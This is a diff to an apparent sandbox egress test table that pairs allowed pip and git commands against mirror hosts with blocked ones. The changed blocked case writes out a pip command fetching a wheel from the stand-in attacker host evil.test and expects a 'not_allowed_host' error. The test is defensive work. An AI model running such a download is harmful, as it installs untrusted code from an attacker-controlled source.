@@ -106,8 +106,8 @@ TOOLS = {
     "pip": (
         "pip install -q --index-url https://pip.mirror.example/simple/ orchdemo && python3 -c 'import orchdemo; print(orchdemo.MESSAGE)'",
         "orchdemo works",
-        "pip install --index-url https://evil.test/simple/ --retries 0 x",
-        "403",
+        "pip install --retries 0 https://evil.test/x-1-py3-none-any.whl",
+        "not_allowed_host",
     ),
     "git over https": (
         "cd /tmp && git clone -q https://git.mirror.example/orchdemo.git && ls orchdemo",
